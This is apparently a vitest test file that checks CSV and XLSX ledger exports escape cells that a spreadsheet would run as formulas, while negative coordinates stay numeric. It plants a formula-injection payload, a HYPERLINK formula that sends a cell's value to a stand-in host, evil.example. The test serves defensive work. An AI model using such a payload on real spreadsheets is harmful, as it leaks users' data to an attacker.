import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { exportLedger } from '../../server/modules/ledgers/export-ledger';
import { importLedger } from '../../server/modules/ledgers/import-ledger';
import { LEDGERS } from '../../src/lib/ledgers/definitions';
import { toLedgerTable } from '../../src/lib/ledgers/ledger';
import { chengmen } from '../../server/sim/scenarios/chengmen';
import { backends, type Stack } from '../fixtures/backends';

const LEAK = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")';

describe.each(backends('ledger export escaping'))('ledger exports ($name)', (backend) => {
	let stack: Stack;
	beforeAll(async () => {
		stack = await backend.open();
		const [first, ...rest] = chengmen.ledgers().sites;
		// A site named like a formula, with a negative longitude and latitude (a valid, if distant, place).
		const planted = { ...first, name: LEAK, township: '@城门街道', longitude: -0.5, latitude: -29.25 };
		const table = toLedgerTable(LEDGERS.sites as never, [planted, ...rest] as never[]);
		const imported = await importLedger({ db: stack.database.db, input: { kind: 'sites', mode: 'import', crs: 'wgs84', by: 'test', table } });
		expect(imported.issues).toEqual([]);
	});
	afterAll(async () => {
		await stack.teardown();
	});

	const rowOf = (rows: string[][], code: string) => rows.find((row) => row[0] === code)!;

	it('quotes a cell a spreadsheet would run as a formula in CSV, and keeps negative coordinates numbers', async () => {
		const csv = (await exportLedger({ db: stack.database.db, kind: 'sites', format: 'csv', personal: 'full', actor: 'test' })).toString('utf8');
		const [headers, ...rows] = parse(csv, { bom: true }) as string[][];
		const row = rowOf(rows, chengmen.ledgers().sites[0].code);
		expect(row[headers.indexOf('名称')]).toBe(`'${LEAK}`);
		expect(row[headers.indexOf('街道')]).toBe("'@城门街道");
		expect(row[headers.indexOf('经度')]).toBe('-0.5');
		expect(row[headers.indexOf('纬度')]).toBe('-29.25');
		// No cell of the file starts a formula.
		expect(rows.flat().filter((cell) => /^[=+@\t\r]/.test(cell) || /^-(?!\d+(\.\d+)?$)/.test(cell))).toEqual([]);
	});

	it('quotes it in XLSX too', async () => {
		const workbook = new ExcelJS.Workbook();
		await workbook.xlsx.load((await exportLedger({ db: stack.database.db, kind: 'sites', format: 'xlsx', personal: 'full', actor: 'test' })) as unknown as ArrayBuffer);
		const values = workbook.worksheets[0].getSheetValues().flat().filter((value) => typeof value === 'string') as string[];
		expect(values).toContain(`'${LEAK}`);
		expect(values).not.toContain(LEAK);
	});
});
